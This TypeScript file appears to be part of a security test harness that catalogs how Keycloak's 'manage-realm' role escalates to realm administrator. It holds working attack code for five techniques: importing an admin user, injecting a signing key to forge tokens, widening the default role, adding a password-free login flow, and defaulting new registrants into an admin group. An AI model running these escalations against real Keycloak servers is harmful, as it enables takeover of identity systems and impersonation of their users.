import { adminRoles } from "../../../src/catalog/roles/admin-roles.ts";
import type { Attempt } from "../attempt.ts";
import { newBrowser } from "../browser.ts";
import { newForge } from "../forge-token.ts";
import { proveRealmAdmin } from "../prove-realm-admin.ts";
import { requestAccessToken, signInAsClient, signInWithPassword } from "../request-token.ts";
import type { Named, Scene } from "../scene.ts";
import { adminConsole, registerUser, takeTokenInBrowser } from "../sign-in-by-browser.ts";

const roles = ["manage-realm"];
const mallory = { name: "mallory", secret: "chosen-by-the-attacker" };

/** Adds a role to the one that each user holds by default, and so the attacker too. */
async function widenDefaultRole(scene: Scene, added: Named): Promise<void> {
  const { realm, attacker } = scene;
  const role = `/roles/default-roles-${realm}`;
  await attacker.caller.send("POST", `${role}/composites`, [added]);
  await proveRealmAdmin(scene, await signInAsClient(scene, attacker.name, attacker.secret));
}

/** What changing the realm leads to. */
export const manageRealm: readonly Attempt[] = [
  {
    id: "import-administrator",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      await scene.attacker.caller.send("POST", "/partialImport", {
        ifResourceExists: "FAIL",
        users: [
          {
            ...{ username: mallory.name, enabled: true, email: "mallory@example.org" },
            ...{ firstName: "Mallory", lastName: "Example" },
            credentials: [{ type: "password", value: mallory.secret }],
            clientRoles: { "realm-management": ["realm-admin"] },
          },
        ],
      });
      await proveRealmAdmin(scene, await signInWithPassword(scene, mallory.name, mallory.secret));
    },
  },
  {
    id: "forge-tokens-with-own-key",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const { baseUrl, realm, realmId, attacker, chief } = scene;
      const forge = newForge();
      await attacker.caller.send("POST", "/components", {
        name: "forge",
        providerId: "rsa",
        providerType: "org.keycloak.keys.KeyProvider",
        parentId: realmId,
        config: {
          ...{ privateKey: [forge.privateKeyPem], priority: ["1000"] },
          ...{ enabled: ["true"], active: ["true"], algorithm: ["RS256"] },
        },
      });
      const certificates = await fetch(`${baseUrl}/realms/${realm}/protocol/openid-connect/certs`);
      const { keys }: { keys: { kid: string; n?: string }[] } = await certificates.json();
      const key = keys.find(({ n }) => n === forge.modulus);
      const token = forge.sign(key?.kid ?? "", {
        iss: `${baseUrl}/realms/${realm}`,
        aud: "realm-management",
        sub: chief.id,
        typ: "Bearer",
        azp: "admin-cli",
        preferred_username: chief.name,
        scope: "openid",
        // From 26.2 to 26.6 the server doesn't unfold realm-admin in a token: each role has to be there.
        resource_access: { "realm-management": { roles: [...adminRoles.keys()] } },
      });
      await proveRealmAdmin(scene, token);
    },
  },
  {
    id: "add-realm-admin-to-default-role",
    roles,
    harm: "realmAdmin",
    attack: (scene) => widenDefaultRole(scene, scene.realmAdmin),
  },
  {
    id: "add-role-that-holds-realm-admin-to-default-role",
    roles,
    harm: "realmAdmin",
    attack: (scene) => widenDefaultRole(scene, scene.boss),
  },
  {
    id: "sign-in-without-password",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const { attacker, chief } = scene;
      const alias = "name-is-enough";
      await attacker.caller.send("POST", "/authentication/flows", {
        ...{ alias, providerId: "basic-flow", topLevel: true, builtIn: false },
      });
      const flow = `/authentication/flows/${alias}/executions`;
      const provider = "direct-grant-validate-username";
      await attacker.caller.send("POST", `${flow}/execution`, { provider });
      const [execution] = await attacker.caller.read<Record<string, unknown>[]>(flow);
      await attacker.caller.send("PUT", flow, { ...execution, requirement: "REQUIRED" });
      await attacker.caller.send("PUT", "", { directGrantFlow: alias });
      const token = await requestAccessToken(scene, {
        ...{ grant_type: "password", client_id: "admin-cli", username: chief.name },
      });
      await proveRealmAdmin(scene, token);
    },
  },
  {
    id: "make-group-of-administrators-default",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const { attacker, board } = scene;
      await attacker.caller.send("PUT", `/default-groups/${board.id}`);
      await attacker.caller.send("PUT", "", { registrationAllowed: true });
      const browser = newBrowser();
      const client = adminConsole(scene);
      const token = await takeTokenInBrowser(scene, browser, client, {
        answer: (page) => registerUser(browser, page, client.redirectUri, mallory),
        endpoint: "registrations",
      });
      await proveRealmAdmin(scene, token);
    },
  },
];
